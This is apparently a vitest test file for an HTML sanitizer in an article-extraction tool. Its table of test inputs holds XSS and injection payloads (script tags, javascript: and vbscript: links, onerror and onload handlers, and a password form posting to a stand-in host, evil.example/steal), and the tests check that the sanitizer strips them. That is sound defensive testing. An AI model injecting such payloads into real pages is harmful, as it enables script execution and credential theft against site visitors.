import { describe, expect, it } from 'vitest';
import { sanitizeToFragment } from '../../../core/extract/sanitize';

/** Page HTML as Readability hands it over: an element in an inert document, never the live page. */
function pageElement(html: string): Element {
  const doc = document.implementation.createHTMLDocument('');
  const div = doc.createElement('div');
  div.innerHTML = html;
  return div;
}

function sanitize(html: string): DocumentFragment {
  return sanitizeToFragment(pageElement(html), window);
}

function serialize(fragment: DocumentFragment): string {
  const holder = document.createElement('div');
  holder.append(fragment.cloneNode(true));
  return holder.innerHTML;
}

describe('sanitizeToFragment', () => {
  it('returns a DocumentFragment that holds the article', () => {
    const fragment = sanitize('<p>Hello <em>reader</em></p>');
    expect(fragment).toBeInstanceOf(window.DocumentFragment);
    expect(fragment.querySelector('p em')?.textContent).toBe('reader');
  });

  // Each case keeps a paragraph of real text, so an over-eager sanitizer that drops everything fails too.
  it.each([
    ['<script>', '<script>alert(1)</script>', 'script, alert'],
    ['<style>', '<style>body{display:none}</style>', 'style, display:none'],
    ['<iframe>', '<iframe src="https://evil.example/"></iframe>', 'iframe, evil.example'],
    [
      '<form> and its controls',
      '<form action="https://evil.example/steal"><input name="pw"><button>Go</button></form>',
      'form, input, button, evil.example',
    ],
    [
      '<object> and <embed>',
      '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y.swf">',
      'object, embed, evil.example',
    ],
    ['an onerror attribute', '<img src="https://example.com/a.jpg" onerror="alert(1)">', 'onerror, alert'],
    ['an onclick attribute', '<a href="https://example.com/" onclick="alert(1)">link</a>', 'onclick, alert'],
    ['a javascript: link', '<a href="javascript:alert(1)">link</a>', 'javascript:'],
    ['a disguised javascript: link', '<a href="  JaVaScRiPt:alert(1)">link</a>', 'javascript:'],
    ['a vbscript: link', '<a href="vbscript:msgbox(1)">link</a>', 'vbscript:'],
    [
      'a data: text/html link',
      '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">link</a>',
      'data:, alert',
    ],
    ['an SVG with a script', '<svg onload="alert(1)"><script>alert(2)</script></svg>', 'svg, script, alert'],
    [
      'a javascript: srcset',
      '<img src="https://example.com/a.jpg" srcset="javascript:alert(1) 1x">',
      'srcset, javascript:',
    ],
    ['an SVG data: image', '<img src="data:image/svg+xml,&lt;svg onload=alert(1)&gt;">', 'data:, alert'],
    ['inline styles', '<p style="position:fixed;inset:0">overlay</p>', 'style=, position:fixed'],
    [
      '<meta>, <base> and <link>',
      '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">',
      'meta, base, link, evil.example',
    ],
  ])('removes %s', (_name, payload, forbidden) => {
    const html = serialize(sanitize(`<p>Article text stays.</p>${payload}`)).toLowerCase();
    expect(html).toContain('<p>article text stays.</p>');
    for (const token of forbidden.split(', ')) expect(html).not.toContain(token);
  });

  it('keeps raster data: images', () => {
    const png =
      'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
    const img = sanitize(`<img src="${png}" alt="dot">`).querySelector('img');
    expect(img?.getAttribute('src')).toBe(png);
  });

  it('removes the address of a data: link but keeps its text', () => {
    const link = sanitize('<p><a href="data:image/png;base64,iVBORw0KGgo=">the chart</a></p>').querySelector(
      'a',
    );
    expect(link?.hasAttribute('href')).toBe(false);
    expect(link?.textContent).toBe('the chart');
  });

  it('keeps web, mail and fragment links', () => {
    const fragment = sanitize(
      '<a href="https://example.com/a">web</a><a href="mailto:a@example.com">mail</a><a href="#notes">notes</a>',
    );
    expect(Array.from(fragment.querySelectorAll('a'), (a) => a.getAttribute('href'))).toEqual([
      'https://example.com/a',
      'mailto:a@example.com',
      '#notes',
    ]);
  });

  it('keeps article structure: headings, lists, tables, figures, code', () => {
    const fragment = sanitize(
      '<h2>Heading</h2><ul><li>one</li></ul><table><tbody><tr><td>cell</td></tr></tbody></table>' +
        '<figure><img src="https://example.com/a.jpg" alt="a"><figcaption>caption</figcaption></figure><pre><code>x &lt; y</code></pre>',
    );
    for (const selector of ['h2', 'ul > li', 'table td', 'figure > img', 'figcaption', 'pre > code']) {
      expect(fragment.querySelector(selector), selector).not.toBeNull();
    }
    expect(fragment.querySelector('code')?.textContent).toBe('x < y');
  });
});
